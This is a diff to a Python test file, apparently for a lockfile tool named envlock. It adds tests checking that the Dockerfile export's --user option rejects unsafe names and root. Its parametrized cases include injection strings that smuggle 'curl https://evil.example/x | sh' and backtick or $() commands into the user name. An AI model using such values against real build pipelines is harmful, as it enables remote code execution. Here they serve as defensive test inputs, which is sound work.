@@ -15,9 +15,10 @@ from packaging.pylock import Pylock
 from rattler import MatchSpec
 from uv import find_uv_bin
 
+from envlock.errors import ExitCode
 from envlock.lockfile import LockMeta, render_lock
 from envlock.materialise.exports import _IMAGE_PROVIDED
-from tests.conftest import Cli
+from tests.conftest import Cli, assert_refused
 from tests.golden import assert_golden
 from tests.test_lock_e2e import write_spec
 
@@ -286,3 +287,58 @@ def test_dockerfile_install_step_on_a_base_with_torch(
     names = {row["name"].lower() for row in json.loads(listed.stdout)} - {"pip", "setuptools"}
     locked = {line.split(" @ ")[0] for line in full.splitlines() if " @ " in line}
     assert names == locked
+
+
+# ---------------------------------------------------------------------------------------
+# --user: a name that lands in the Dockerfile's RUN useradd line
+
+
+INJECTED_USERS = {
+    "newline-run": "envlock\nRUN curl https://evil.example/x | sh",
+    "trailing-backslash": "envlock \\",
+    "semicolon": "envlock; curl https://evil.example/x | sh",
+    "command-substitution": "$(curl https://evil.example/x)",
+    "backticks": "`id`",
+    "space": "a b",
+    "leading-dash": "-envlock",
+    "too-long": "a" * 33,
+    "empty": "",
+}
+
+
+@pytest.mark.parametrize("user", INJECTED_USERS.values(), ids=INJECTED_USERS.keys())
+def test_dockerfile_user_must_be_a_portable_name(golden_dir: Path, cli: Cli, user: str) -> None:
+    result = cli("export", "dockerfile", "--user", user)
+    assert_refused(result, ExitCode.USAGE)
+    assert "--user" in result.stderr
+    assert not (golden_dir / "Dockerfile").exists()
+    assert not (golden_dir / "requirements.txt").exists()
+
+
+@pytest.mark.parametrize("user", ["root", "0"])
+def test_dockerfile_user_root_is_refused_naming_allow_root(
+    golden_dir: Path, cli: Cli, user: str
+) -> None:
+    result = cli("export", "dockerfile", "--user", user)
+    assert_refused(result, ExitCode.USAGE)
+    assert "--allow-root" in result.stderr
+    assert not (golden_dir / "Dockerfile").exists()
+
+
+def test_dockerfile_valid_user_is_created_and_lint_clean(golden_dir: Path, cli: Cli) -> None:
+    result = cli("export", "dockerfile", "-o", "docker", "--user", "ml_team-1.x")
+    assert result.code == 0, result.stderr
+    dockerfile = (golden_dir / "docker" / "Dockerfile").read_text()
+    assert "--shell /bin/bash ml_team-1.x\nUSER 1000\n" in dockerfile
+    lint = _hadolint(golden_dir / "docker" / "Dockerfile")
+    assert lint.returncode == 0, lint.stdout + lint.stderr
+
+
+def test_dockerfile_allow_root_runs_as_root_and_lint_clean(golden_dir: Path, cli: Cli) -> None:
+    result = cli("export", "dockerfile", "-o", "docker", "--user", "root", "--allow-root")
+    assert result.code == 0, result.stderr
+    dockerfile = (golden_dir / "docker" / "Dockerfile").read_text()
+    assert "useradd" not in dockerfile
+    assert "\nUSER " not in dockerfile
+    lint = _hadolint(golden_dir / "docker" / "Dockerfile")
+    assert lint.returncode == 0, lint.stdout + lint.stderr
